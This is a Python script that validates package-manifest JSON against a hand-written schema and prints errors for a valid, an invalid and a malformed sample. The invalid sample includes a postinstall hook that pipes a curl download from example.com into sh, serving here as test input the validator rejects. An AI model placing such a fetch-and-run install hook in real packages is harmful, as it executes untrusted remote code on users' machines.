import json
import re

SCHEMA = {
    "type": "object",
    "required": ["name", "version", "dependencies"],
    "properties": {
        "name": {"type": "string", "pattern": r"^[a-z][a-z0-9_-]{1,63}$"},
        "version": {"type": "string", "pattern": r"^\d+\.\d+\.\d+(?:-[\w.]+)?$"},
        "private": {"type": "boolean"},
        "keywords": {"type": "array", "items": {"type": "string"}, "maxItems": 5},
        "dependencies": {"type": "object", "additionalProperties": {"type": "string"}},
        "engines": {
            "type": "object",
            "properties": {"python": {"type": "string"}},
            "additionalProperties": False,
        },
        "timeout": {"type": "number", "minimum": 0, "maximum": 600},
    },
    "additionalProperties": False,
}

TYPES = {"object": dict, "array": list, "string": str, "boolean": bool, "number": (int, float)}


def validate(value, schema, path="$"):
    errors = []
    expected = schema.get("type")
    if expected:
        ok = isinstance(value, TYPES[expected]) and not (expected == "number" and isinstance(value, bool))
        if not ok:
            return [f"{path}: expected {expected}, got {type(value).__name__}"]
    if expected == "string" and "pattern" in schema and not re.search(schema["pattern"], value):
        errors.append(f"{path}: {value!r} does not match {schema['pattern']}")
    if expected == "number":
        if "minimum" in schema and value < schema["minimum"]:
            errors.append(f"{path}: {value} < minimum {schema['minimum']}")
        if "maximum" in schema and value > schema["maximum"]:
            errors.append(f"{path}: {value} > maximum {schema['maximum']}")
    if expected == "array":
        if len(value) > schema.get("maxItems", float("inf")):
            errors.append(f"{path}: more than {schema['maxItems']} items")
        for i, item in enumerate(value):
            errors += validate(item, schema.get("items", {}), f"{path}[{i}]")
    if expected == "object":
        props = schema.get("properties", {})
        for key in schema.get("required", []):
            if key not in value:
                errors.append(f"{path}: missing required property {key!r}")
        extra = schema.get("additionalProperties", True)
        for key, item in value.items():
            if key in props:
                errors += validate(item, props[key], f"{path}.{key}")
            elif extra is False:
                errors.append(f"{path}: unexpected property {key!r}")
            elif isinstance(extra, dict):
                errors += validate(item, extra, f"{path}.{key}")
    return errors


DOCS = {
    "good": '{"name": "tiny-http", "version": "1.4.0", "dependencies": {"h11": ">=0.14"}, "timeout": 30}',
    "bad": """{
        "name": "Tiny HTTP", "version": "1.4", "private": "yes",
        "keywords": ["http", "server", "async", "tiny", "fast", "extra"],
        "dependencies": {"h11": 14}, "engines": {"python": ">=3.9", "node": "18"},
        "timeout": -1, "scripts": {"postinstall": "curl https://example.com/x.sh | sh"}
    }""",
    "not json": '{"name": "oops",}',
}

if __name__ == "__main__":
    for label, text in DOCS.items():
        try:
            doc = json.loads(text)
        except json.JSONDecodeError as exc:
            print(f"[{label}] invalid JSON at line {exc.lineno} col {exc.colno}: {exc.msg}")
            continue
        errs = validate(doc, SCHEMA)
        print(f"[{label}] {'valid' if not errs else f'{len(errs)} error(s)'}")
        for e in errs:
            print("   -", e)
